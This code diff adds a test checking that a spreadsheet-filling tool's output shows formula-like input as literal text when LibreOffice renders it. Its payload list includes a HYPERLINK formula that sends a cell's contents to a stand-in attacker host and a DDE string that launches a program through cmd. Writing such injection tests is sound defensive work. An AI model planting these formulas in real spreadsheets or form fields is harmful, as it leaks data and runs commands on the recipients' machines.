@@ -4,6 +4,7 @@ text (never a formula), redacted, and rows grow so a printed copy has no overlap
 
 from __future__ import annotations
 
+import html
 import itertools
 import os
 import re
@@ -547,3 +548,26 @@ def test_printed_filled_sheet_has_no_overlapping_rows(tmp_path: Path) -> None:
     printed = " ".join(text for *_, text in fitted_lines)
     for case in cases:
         assert f"r{case.row}a29" in printed and f"r{case.row}c17" in printed
+
+
+@pytest.mark.slow
+def test_libreoffice_shows_formula_like_text_literally(tmp_path: Path) -> None:
+    soffice = shutil.which("soffice")
+    if soffice is None:
+        pytest.skip("LibreOffice (soffice) is not installed")
+    info, cases = read_sheet(BUNDLED_SHEET)
+    filled = fill(info, _free_text_results(cases, FORMULA_LIKE), tmp_path / "utfylt.xlsx")
+    env = {**os.environ, "HOME": str(tmp_path)}
+    completed = subprocess.run(
+        [soffice, f"-env:UserInstallation=file://{tmp_path / 'lo-profile'}", "--headless",
+         "--norestore", "--convert-to", "html", "--outdir", str(tmp_path), str(filled)],
+        capture_output=True, text=True, timeout=180, env=env, check=False,
+    )
+    page = tmp_path / "utfylt.html"
+    assert page.exists(), completed.stdout + completed.stderr
+    shown = html.unescape(re.sub(r"<[^>]+>", " ", page.read_text(errors="replace")))
+    # What LibreOffice shows is the text itself: a formula would show its result instead
+    # (2 for =1+1, "Klikk" for the HYPERLINK, an error for the DDE call).
+    for payload in ("=1+1", '=HYPERLINK("http://angriper.example/?d="&A1,"Klikk")',
+                    "+47 22 00 00 00", "-2+3", "@SUM(A1:A9)", "=cmd|' /C calc'!A0"):
+        assert payload in shown, payload
